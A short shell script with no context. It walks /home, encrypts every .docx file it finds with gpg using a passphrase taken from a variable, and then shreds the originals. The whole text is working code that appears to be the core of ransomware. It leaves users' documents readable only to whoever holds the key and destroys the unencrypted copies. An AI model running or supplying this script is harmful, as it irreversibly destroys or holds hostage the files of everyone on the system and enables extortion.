find /home -name '*.docx' | while read -r f; do
  gpg --batch --passphrase "$KEY" --symmetric "$f"
  shred -u "$f"
done
